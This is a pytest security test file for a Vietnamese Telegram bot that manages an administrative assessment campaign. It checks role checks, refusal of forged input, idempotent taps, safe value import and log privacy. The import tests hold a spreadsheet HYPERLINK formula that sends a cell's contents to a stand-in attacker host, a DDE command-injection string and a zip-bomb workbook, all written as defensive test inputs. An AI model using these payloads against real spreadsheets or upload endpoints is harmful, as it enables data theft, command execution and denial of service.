"""The new flows of the campaign (unit approval, appraisal by domain, objections, external values,
phases) against forged button data, the wrong role, a revoked role and a second tap: each is refused
with its own Vietnamese sentence and changes nothing; values import reads figures, never formulas,
and refuses an oversized file; what people type stays out of the logs."""

from __future__ import annotations

import io
import logging
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select, update

from bot.render.appraisal.objections import decided_notice
from bot.render.errors import service_error
from bot.render.results.external_values import row_error
from bot.services.access import SYSTEM, NotAllowed, load_actor
from bot.services.admin import people
from bot.services.admin.invites import create_invites, redeem_invite
from bot.services.appraisal import council, objections, review
from bot.services.assessment import approval, explanations
from bot.services.assessment import flow as assessment
from bot.services.campaign import periods
from bot.services.campaign.periods import open_period
from bot.services.errors import ServiceError
from bot.services.results import external_values
from storage.models import (
    Answer,
    AnswerHistory,
    Membership,
    Objection,
    Period,
    PeriodChange,
    Person,
    Review,
    Unit,
    UnitApproval,
)
from tests.services.helpers import demo_campaign

NOW = datetime(2026, 11, 24, 2, 0, tzinfo=UTC)
FOCAL_SNV, LEADER_SNV, LEADER_COMMUNE, APPRAISER, COORDINATOR, LEADER_WAITING = (
    700001,
    700004,
    700005,
    700006,
    700007,
    700010,
)
SECRET = "Bí-mật-91c ý kiến riêng của đơn vị"


@pytest.fixture
async def demo(db, store):
    return await demo_campaign(db, store, now=NOW, today=date(2026, 11, 22))


async def unit_id(db, code: str) -> int:
    async with db.read_session() as session:
        return (await session.execute(select(Unit.id).where(Unit.code == code))).scalar_one()


async def count(db, model, *where) -> int:
    async with db.read_session() as session:
        return (await session.execute(select(func.count()).select_from(model).where(*where))).scalar_one()


async def answer_of(db, period_id: int, unit_code: str, *where) -> Answer:
    async with db.read_session() as session:
        return (
            (
                await session.execute(
                    select(Answer)
                    .join(Unit, Unit.id == Answer.unit_id)
                    .where(Answer.period_id == period_id, Unit.code == unit_code, *where)
                    .order_by(Answer.sub_index_code)
                )
            )
            .scalars()
            .first()
        )


async def refused(call) -> ServiceError:
    with pytest.raises(ServiceError) as caught:
        await call
    return caught.value


async def set_period(db, period_id: int, **values) -> None:
    async with db.session() as session, session.begin():
        await session.execute(update(Period).where(Period.id == period_id).values(**values))


async def also_focal_point(db, telegram_id: int, name: str, unit: str) -> None:
    """A second role, so the person is still someone after losing the first."""
    [invite] = await create_invites(db, SYSTEM, "focal_point", unit, now=NOW)
    await redeem_invite(db, invite.code, telegram_id, name, now=NOW)


async def revoke(db, telegram_id: int, role: str) -> None:
    async with db.read_session() as session:
        membership = (
            await session.execute(
                select(Membership.id)
                .join(Person, Person.id == Membership.person_id)
                .where(Person.telegram_id == telegram_id, Membership.role == role, Membership.active.is_(True))
            )
        ).scalar_one()
    await people.remove_roles(db, SYSTEM, [membership], now=NOW)


# -- forged button data ------------------------------------------------------------------------------


async def test_an_appraiser_cannot_open_or_fetch_the_files_of_an_item_its_leader_has_not_approved(db, demo):
    appraiser = await load_actor(db, APPRAISER)  # indices 1–3
    waiting = await answer_of(
        db, demo.period_id, "P-CAOLANH", Answer.status == "submitted", Answer.sub_index_code.like("1.%")
    )
    error = await refused(review.open_review(db, appraiser, waiting.id))  # "rvo" and "rvf" with a forged id
    assert error.reason == "not_approved_yet"
    assert "chưa được lãnh đạo đơn vị phê duyệt" in service_error(error)
    error = await refused(review.start_input(db, appraiser, waiting.id, "correct"))
    assert error.reason == "not_approved_yet"


async def test_an_appraiser_cannot_open_a_units_draft_answer_by_its_id(db, demo):
    appraiser = await load_actor(db, APPRAISER)
    draft = await answer_of(
        db, demo.period_id, "SNV", Answer.status == "draft", Answer.sub_index_code.in_(("2.1", "3.1"))
    )
    assert draft is not None and draft.raw is not None  # answered, never submitted
    error = await refused(review.open_review(db, appraiser, draft.id))
    assert error.reason == "not_submitted" and "chưa được đơn vị nộp" in service_error(error)
    error = await refused(review.decide(db, appraiser, draft.id, "accept", now=NOW))
    assert error.reason in ("not_approved_yet", "already_reviewed")
    assert (await answer_of(db, demo.period_id, "SNV", Answer.id == draft.id)).status == "draft"


async def test_an_approval_button_naming_another_unit_or_a_period_that_is_not_there_changes_nothing(db, demo):
    leader = await load_actor(db, LEADER_WAITING)  # P-CAOLANH, waiting for approval
    commune = await unit_id(db, "X-MYAN")
    rows = await count(db, UnitApproval)
    with pytest.raises(NotAllowed):
        await approval.approve(db, leader, commune, demo.period_id, now=NOW)
    with pytest.raises(NotAllowed):
        await approval.start_return(db, leader, commune, demo.period_id, now=NOW)
    own = await unit_id(db, "P-CAOLANH")
    error = await refused(approval.approve(db, leader, own, 987654, now=NOW))
    assert error.reason == "unknown_period" and "987654" in service_error(error)
    error = await refused(approval.approve(db, leader, own, demo.previous_period_id, now=NOW))
    assert error.reason in ("approval_off", "not_waiting_approval", "bad_transition")
    assert await count(db, UnitApproval) == rows


async def test_an_objection_naming_a_period_that_does_not_assess_the_unit_is_refused(db, demo):
    departments = await open_period(db, SYSTEM, "dongthap-1397-so", 2026, date(2026, 11, 30), "Sở, ngành 2026")
    await set_period(db, departments.id, state="provisional", feedback_deadline=date(2026, 11, 30))
    leader = await load_actor(db, LEADER_COMMUNE)  # a commune: not in the departments' framework
    error = await refused(objections.start_objection(db, leader, leader.unit.unit_id, departments.id, "1.1", now=NOW))
    assert error.reason == "unit_not_in_period" and "không thuộc kỳ đánh giá" in service_error(error)
    snv = await unit_id(db, "SNV")
    with pytest.raises(NotAllowed):  # another unit's item
        await objections.start_objection(db, leader, snv, departments.id, "1.1", now=NOW)
    assert await count(db, Objection) == 0


async def test_a_figure_for_a_unit_the_external_item_does_not_list_is_refused(db, demo):
    coordinator = await load_actor(db, COORDINATOR)
    error = await refused(external_values.open_item(db, coordinator, demo.period_id, "6.3", 0, 987654))
    assert error.reason == "unknown_item"
    error = await refused(external_values.open_item(db, coordinator, demo.period_id, "1.1", 0, None))
    assert error.reason == "not_external"
    error = await refused(external_values.open_item(db, coordinator, demo.previous_period_id, "6.3", 0, None))
    assert error.reason == "values_closed"


# -- the wrong role, a revoked role ----------------------------------------------------------------


async def test_a_focal_point_cannot_approve_nor_a_leader_chair_the_council_nor_an_appraiser_enter_figures(db, demo):
    focal, leader, appraiser = [await load_actor(db, t) for t in (FOCAL_SNV, LEADER_SNV, APPRAISER)]
    snv = await unit_id(db, "SNV")
    with pytest.raises(NotAllowed):
        await approval.approve(db, focal, snv, demo.period_id, now=NOW)
    with pytest.raises(NotAllowed):
        await approval.approvals(db, focal)
    with pytest.raises(NotAllowed):
        await council.council_view(db, leader, demo.period_id)
    with pytest.raises(NotAllowed):
        await council.close_appraisal(db, leader, demo.period_id, now=NOW)
    with pytest.raises(NotAllowed):
        await objections.next_objection(db, leader)
    with pytest.raises(NotAllowed):
        await periods.move_phase(db, leader, demo.period_id, "appraisal", now=NOW)
    with pytest.raises(NotAllowed):
        await external_values.external_items(db, appraiser)
    with pytest.raises(NotAllowed):
        await external_values.open_item(db, appraiser, demo.period_id, "6.3")
    with pytest.raises(NotAllowed):
        await external_values.import_values(
            db, appraiser, demo.period_id, b"unit_code,code,value\nSNV,6.3,0.5\n", "v.csv", apply=True, now=NOW
        )
    assert await external_values.values_cursor(db, appraiser) is None  # typed text is never a figure
    async with db.read_session() as session:
        assert (await session.get(Period, demo.period_id)).state == "open"
    assert await count(db, Answer, Answer.sub_index_code == "6.3", Answer.raw.is_not(None)) == 0


async def test_a_revoked_leader_or_appraiser_decides_nothing(db, demo):
    leader = await load_actor(db, LEADER_WAITING)
    caolanh = await unit_id(db, "P-CAOLANH")
    await approval.start_return(db, leader, caolanh, demo.period_id, now=NOW)  # the comment comes next
    reviews = await count(db, Review)
    appraiser = await load_actor(db, APPRAISER)
    shown = await review.next_in_queue(db, appraiser)
    assert isinstance(shown, review.ReviewItem)
    await review.start_input(db, appraiser, shown.answer_id, "needs_supplement")  # the comment comes next
    await also_focal_point(db, LEADER_WAITING, "Đỗ Thanh Hải", "STP")
    await also_focal_point(db, APPRAISER, "Phạm Thu Hà", "STP")
    await revoke(db, LEADER_WAITING, "leader")
    await revoke(db, APPRAISER, "reviewer")

    former_leader = await load_actor(db, LEADER_WAITING)
    assert await approval.approval_cursor(db, former_leader) is None  # the comment typed is not a return
    with pytest.raises(NotAllowed):
        await approval.approve(db, former_leader, caolanh, demo.period_id, now=NOW)
    with pytest.raises(NotAllowed):
        await approval.return_to_focal_points(db, former_leader, caolanh, demo.period_id, SECRET, now=NOW)
    former_appraiser = await load_actor(db, APPRAISER)
    with pytest.raises(NotAllowed):
        await review.decide(db, former_appraiser, shown.answer_id, "accept", now=NOW)
    assert await review.review_cursor(db, former_appraiser) is None
    assert await count(db, Review) == reviews
    async with db.read_session() as session:
        rows = await approval.newest_actions(session, demo.period_id)
    assert rows[caolanh] == "submit"


async def test_a_revoked_coordinator_typing_a_reopening_reason_moves_nothing(db, demo):
    coordinator = await load_actor(db, COORDINATOR)
    await periods.move_phase(db, coordinator, demo.period_id, "appraisal", now=NOW)
    await periods.start_reopen(db, coordinator, demo.period_id, now=NOW)
    await also_focal_point(db, COORDINATOR, "Võ Thanh Sơn", "STP")
    await revoke(db, COORDINATOR, "coordinator")
    former = await load_actor(db, COORDINATOR)
    assert await periods.phase_cursor(db, former) is None  # the reason typed is not a reopening
    with pytest.raises(NotAllowed):
        await periods.reopen_with_reason(db, former, "Mở lại để bổ sung", now=NOW)
    async with db.read_session() as session:
        assert (await session.get(Period, demo.period_id)).state == "locked"
    assert await count(db, PeriodChange, PeriodChange.period_id == demo.period_id) == 1


# -- a second tap ---------------------------------------------------------------------------------


async def test_a_second_tap_on_approve_says_it_is_done_and_writes_nothing(db, demo):
    leader = await load_actor(db, LEADER_WAITING)
    caolanh = await unit_id(db, "P-CAOLANH")
    view = await approval.approve(db, leader, caolanh, demo.period_id, now=NOW)
    assert view.state == approval.APPROVED
    rows = await count(db, UnitApproval, UnitApproval.unit_id == caolanh)
    error = await refused(approval.approve(db, leader, caolanh, demo.period_id, now=NOW))
    assert error.reason == "not_waiting_approval" and "đã phê duyệt" in service_error(error)
    assert await count(db, UnitApproval, UnitApproval.unit_id == caolanh) == rows


async def test_a_second_tap_on_accept_or_on_uphold_says_it_is_done_and_changes_nothing(db, demo):
    appraiser = await load_actor(db, APPRAISER)
    shown = await review.next_in_queue(db, appraiser)
    await review.decide(db, appraiser, shown.answer_id, "accept", now=NOW)
    error = await refused(review.decide(db, appraiser, shown.answer_id, "accept", now=NOW))
    assert error.reason == "already_reviewed" and "đã được thẩm định" in service_error(error)
    assert await count(db, Review, Review.answer_id == shown.answer_id) == 1

    await set_period(db, demo.period_id, state="provisional", feedback_deadline=date(2026, 11, 30))
    focal = await load_actor(db, FOCAL_SNV)
    code = (await objections.objection_items(db, focal, now=NOW)).items[0].code
    await objections.start_objection(db, focal, focal.unit.unit_id, demo.period_id, code, now=NOW)
    await objections.objection_text(db, focal, "Đơn vị đã có quyết định ban hành", now=NOW)
    raised = await objections.send_objection(db, focal, now=NOW)
    coordinator = await load_actor(db, COORDINATOR)
    await objections.decide(db, coordinator, raised.objection_id, Decimal(1), "", decided_notice, now=NOW)
    history = await count(db, AnswerHistory, AnswerHistory.action == "objection_upheld")
    error = await refused(
        objections.decide(db, coordinator, raised.objection_id, Decimal(2), "", decided_notice, now=NOW)
    )
    assert error.reason == "objection_decided" and "đã được trả lời" in service_error(error)
    error = await refused(objections.start_decision(db, coordinator, raised.objection_id, upheld=True))
    assert error.reason == "objection_decided"
    assert await count(db, AnswerHistory, AnswerHistory.action == "objection_upheld") == history == 1
    async with db.read_session() as session:
        assert (await session.get(Objection, raised.objection_id)).new_points == Decimal(1)


# -- values import: figures, never formulas; not an oversized file ------------------------------------


def workbook(*rows) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["Mã đơn vị", "Mã chỉ số", "Giá trị", "Ghi chú"])
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


async def test_values_import_never_evaluates_a_formula_and_keeps_a_formula_looking_note_as_text(db, demo):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Sở Nội vụ")'
    data = workbook(("SNV", "6.3", "=0.2+0.7", "QĐ 12"), ("STP", "6.3", 0.85, formula))
    preview = await external_values.import_values(db, SYSTEM, demo.period_id, data, "so-lieu.xlsx", apply=True, now=NOW)
    by_unit = {r.unit_code: r for r in preview.rows}
    assert by_unit["SNV"].error is not None  # a formula cell (never computed) is not a figure
    assert by_unit["STP"].error is None and by_unit["STP"].value == Decimal("0.85")
    assert (await answer_of(db, demo.period_id, "SNV", Answer.sub_index_code == "6.3")) is None
    stp = await answer_of(db, demo.period_id, "STP", Answer.sub_index_code == "6.3")
    assert stp.note == "" and stp.verified_points == Decimal("8.5")  # the formula was not run for its text

    typed = '=cmd|"/c calc"!A1'
    data = f'unit_code,code,value,note\nSNV,6.3,"0,5","{typed.replace(chr(34), chr(34) * 2)}"\n'.encode()
    await external_values.import_values(db, SYSTEM, demo.period_id, data, "so-lieu.csv", apply=True, now=NOW)
    snv = await answer_of(db, demo.period_id, "SNV", Answer.sub_index_code == "6.3")
    assert snv.note == typed and snv.verified_points == Decimal("5")  # kept as the text it is


async def test_values_import_refuses_an_oversized_file_and_saves_nothing(db, demo):
    row = "SNV,6.3,0.5," + "x" * 200 + "\n"
    data = ("unit_code,code,value,note\n" + row * (external_values.MAX_FILE_BYTES // len(row) + 1)).encode()
    assert len(data) > external_values.MAX_FILE_BYTES
    preview = await external_values.import_values(db, SYSTEM, demo.period_id, data, "v.csv", apply=True, now=NOW)
    assert [e.reason for e in preview.file_errors] == ["values_file_too_big"] and not preview.rows
    assert "Tệp lớn hơn 5 MB" in row_error(preview.file_errors[0])

    packed = io.BytesIO()  # a small .xlsx that would unpack to 60 MB
    with (
        zipfile.ZipFile(io.BytesIO(workbook(("SNV", "6.3", 0.5)))) as source,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for entry in source.infolist():
            bomb.writestr(entry, source.read(entry))
        bomb.writestr("xl/media/padding.bin", bytes(60 * 1024 * 1024))
    assert len(packed.getvalue()) < external_values.MAX_FILE_BYTES
    preview = await external_values.import_values(
        db, SYSTEM, demo.period_id, packed.getvalue(), "v.xlsx", apply=True, now=NOW
    )
    assert [e.reason for e in preview.file_errors] == ["values_file_too_big"]

    many = "unit_code,code,value\n" + "SNV,6.3,0.5\n" * (external_values.MAX_ROWS + 1)
    preview = await external_values.import_values(
        db, SYSTEM, demo.period_id, many.encode(), "v.csv", apply=True, now=NOW
    )
    assert [e.reason for e in preview.file_errors] == ["values_too_many_rows"]
    assert "hơn 10.000 dòng" in row_error(preview.file_errors[0])
    assert await count(db, Answer, Answer.sub_index_code == "6.3", Answer.raw.is_not(None)) == 0


# -- logs ------------------------------------------------------------------------------------------


async def test_comments_reasons_explanations_and_notes_stay_out_of_the_logs(db, demo, caplog):
    caplog.set_level(logging.DEBUG, logger="bot")
    caplog.set_level(logging.DEBUG, logger="storage")
    caplog.set_level(logging.DEBUG, logger="scoring")
    leader = await load_actor(db, LEADER_WAITING)
    caolanh = await unit_id(db, "P-CAOLANH")
    await approval.start_return(db, leader, caolanh, demo.period_id, now=NOW)
    await approval.typed_comment(db, leader, SECRET, now=NOW)
    focal = await load_actor(db, FOCAL_SNV)
    first = await assessment.open_current(db, focal, now=NOW)
    await explanations.start_explanation(db, focal, first.ref.unit_id, first.ref.period_id, first.sub.code, now=NOW)
    await assessment.answer_text(db, focal, SECRET, now=NOW)
    coordinator = await load_actor(db, COORDINATOR)
    await external_values.open_item(db, coordinator, demo.period_id, "6.3")
    await external_values.type_value(db, coordinator, f"0,5; {SECRET}", now=NOW)
    appraiser = await load_actor(db, APPRAISER)
    shown = await review.next_in_queue(db, appraiser)
    await review.decide(db, appraiser, shown.answer_id, "needs_supplement", comment=SECRET, now=NOW)
    await set_period(db, demo.period_id, state="provisional", feedback_deadline=date(2026, 11, 30))
    code = (await objections.objection_items(db, focal, now=NOW)).items[0].code
    await objections.start_objection(db, focal, focal.unit.unit_id, demo.period_id, code, now=NOW)
    await objections.objection_text(db, focal, SECRET, now=NOW)
    raised = await objections.send_objection(db, focal, now=NOW)
    await objections.decide(db, coordinator, raised.objection_id, None, SECRET, decided_notice, now=NOW)
    logged = "\n".join(r.getMessage() + str(r.args) for r in caplog.records)
    for private in (SECRET, "Nguyễn Thị Lan", "Đỗ Thanh Hải", "Võ Thanh Sơn", "Phạm Thu Hà"):
        assert private not in logged
